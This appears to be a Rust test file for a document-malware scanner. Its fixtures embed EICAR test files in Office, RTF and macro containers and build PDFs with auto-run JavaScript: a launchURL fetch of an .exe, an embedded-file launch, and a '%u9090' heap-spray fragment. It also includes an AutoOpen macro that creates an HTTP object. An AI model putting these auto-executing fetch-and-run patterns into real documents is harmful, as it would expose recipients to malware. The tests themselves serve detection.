use super::{found, hidden, scanned};
use crate::unpack::fixtures::{
    Member, eicar,
    office::{compound, hexadecimal, macro_document, native_package, old_object, packaged},
    zip,
};

fn source(body: &str) -> Vec<u8> {
    format!("Attribute VB_Name = \"Module1\"\r\n{body}\r\n").into_bytes()
}

#[test]
fn what_documents_embed_is_found_under_its_name() {
    let object = compound(&[("\u{1}Ole10Native", &native_package("eicar.com", &eicar())), ("\u{1}CompObj", b"x")]);
    let document = compound(&[("WordDocument", &[0; 5_000]), ("ObjectPool/_1/\u{1}Ole10Native", &native_package("eicar.com", &eicar()))]);
    let package = zip(&[Member::stored("[Content_Types].xml", b"<Types/>"), Member::deflated("word/embeddings/oleObject1.bin", &object)]);
    let text = format!("{{\\rtf1{{\\object{{\\*\\objdata {}}}}}}}", hexadecimal(&old_object("Package", &packaged("eicar.com", &eicar()))));
    for (content, path) in
        [(document, "eicar.com"), (package, "word/embeddings/oleObject1.bin/eicar.com"), (text.into_bytes(), "eicar.com")]
    {
        let report = scanned(&content);
        assert!(found(&report).contains(&("EICAR-Test-File", path)), "{:?}", found(&report));
        assert!(hidden(&report).is_empty(), "{:?}", hidden(&report));
    }
}

#[test]
fn what_the_script_of_a_pdf_does_counts_for_the_document() {
    let document = |opens: &str, script: &str| {
        let digits: String = script.bytes().map(|byte| format!("{byte:02x}")).collect();
        let action = format!("<< /S /JavaScript /JS <{digits}> >>");
        format!("%PDF-1.7\n1 0 obj\n<< /Type /Catalog {opens} {action} >>\nendobj\ntrailer\n<< /Root 1 0 R >>\n%%EOF").into_bytes()
    };
    let code = format!("var c = unescape('{}'); while (c.length < 0x40000) c += c;", "%u9090".repeat(30));
    for (script, signature) in [
        ("app.launchURL('https://example.com/a.exe', true);", "FileSafety.Suspicious.RunsAndFetches"),
        ("this.exportDataObject({ cName: 'a.doc', nLaunch: 2 });", "FileSafety.Suspicious.RunsProgram"),
        (&code, "FileSafety.Suspicious.RunsProgram"),
    ] {
        let report = scanned(&document("/OpenAction", script));
        assert_eq!(found(&report), [(signature, "")], "{script}");
        // On a click, each is no more than a fact.
        let report = scanned(&document("/A", script));
        assert!(found(&report).is_empty() && !report.notes.is_empty(), "{script}: {:?}", found(&report));
    }
    let honest = scanned(&document("/OpenAction", "app.alert('hello'); this.submitForm('https://example.com/form');"));
    assert!(found(&honest).is_empty());
}

#[test]
fn macros_are_scanned_as_text() {
    let report = scanned(&macro_document(&[("Module1", &eicar())]));
    assert!(found(&report).contains(&("EICAR-Test-File", "VBA/Module1.bas")), "{:?}", found(&report));
    let package = zip(&[Member::deflated("word/vbaProject.bin", &macro_document(&[("Module1", &eicar())]))]);
    assert!(found(&scanned(&package)).contains(&("EICAR-Test-File", "word/vbaProject.bin/VBA/Module1.bas")));
}

#[test]
fn a_macro_that_runs_by_itself_and_fetches_is_suspicious_and_either_alone_is_not() {
    let opens = source("Sub AutoOpen()\r\nFill\r\nEnd Sub");
    let fetches = source("Sub Fill()\r\nSet x = CreateObject(\"MSXML2.XMLHTTP\")\r\nEnd Sub");
    let report = scanned(&macro_document(&[("Module1", &opens), ("Module2", &fetches)]));
    assert!(found(&report).contains(&("FileSafety.Suspicious.RunsAndFetches", "")), "{:?}", found(&report));
    for alone in [opens, fetches] {
        let report = scanned(&macro_document(&[("Module1", &alone)]));
        assert!(found(&report).is_empty() && !report.notes.is_empty(), "{:?}", found(&report));
    }
}
